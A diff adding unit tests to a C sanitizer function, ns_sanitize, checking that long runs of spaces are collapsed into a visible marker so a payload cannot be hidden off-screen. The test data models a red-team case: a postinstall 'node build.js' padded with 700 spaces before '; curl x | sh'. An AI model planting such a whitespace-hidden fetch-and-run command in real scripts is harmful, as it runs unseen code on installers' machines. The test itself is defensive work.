@@ -196,6 +196,22 @@ test_sanitize(void **state)
 	assert_string_equal(out, "abc...");
 	ns_sanitize(out, 7, "abc\xc3\xa9\xc3\xa9x");
 	assert_string_equal(out, "abc...");
+	/* a long run of spaces cannot push a payload out of sight (red team: a
+	 * postinstall "node build.js" + 700 spaces + "; curl ... | sh") */
+	{
+		char script[800], shown[600];
+		memset(script, ' ', sizeof(script));
+		memcpy(script, "node build.js", 13);
+		memcpy(script + 713, "; curl x | sh", 14);
+		ns_sanitize(shown, sizeof(shown), script);
+		assert_string_equal(shown, "node build.js<700 spaces>; curl x | sh");
+	}
+	ns_sanitize(out, sizeof(out), "a       b");
+	assert_string_equal(out, "a       b");
+	ns_sanitize(out, sizeof(out), "a        b");
+	assert_string_equal(out, "a<8 spaces>b");
+	ns_sanitize(out, 12, "a        b");
+	assert_string_equal(out, "a...");
 }
 
 int
